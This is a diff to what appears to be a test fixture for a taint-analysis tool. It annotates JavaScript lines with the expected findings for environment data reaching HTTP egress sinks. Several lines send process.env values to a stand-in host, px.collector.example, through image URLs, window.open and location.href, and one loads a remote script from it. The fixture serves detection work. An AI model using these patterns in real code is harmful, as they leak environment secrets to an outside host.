@@ -91,8 +91,12 @@ function requests() {
   new Image().src = "https://px.collector.example/?t=" + process.env.T; //~ source(ENVIRONMENT) f24, sink(egress.http) f24, finding(traced) f24, capability(NETWORK)
   new Image().src = "https://px.collector.example/p.png"; //~ ok
   document.createElement("script").src = "https://px.collector.example/x.js"; //~ endpoint("https://px.collector.example/x.js")
-  document.createElement("a").setAttribute("href", U + process.env.T); //~ source(ENVIRONMENT) f25, sink(egress.http) f25, finding(traced) f25
-  document.createElement("a").setAttribute("href", U); //~ ok
+  document.createElement("link").setAttribute("href", U + process.env.T); //~ source(ENVIRONMENT) f25, sink(egress.http) f25, finding(traced) f25
+  document.createElement("link").setAttribute("href", U); //~ ok
+  // A link that nobody follows takes an address apart.
+  const parser = document.createElement("a");
+  parser.href = process.env.T; //~ ok
+  console.log(document.createElement("a").pathname, parser.hash); //~ ok
   window.open(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f26, sink(egress.http) f26, finding(traced) f26, capability(NETWORK)
   window.open(U); //~ ok
   location.href = U + "?t=" + process.env.T; //~ source(ENVIRONMENT) f27, sink(egress.http) f27, finding(traced) f27, capability(NETWORK)
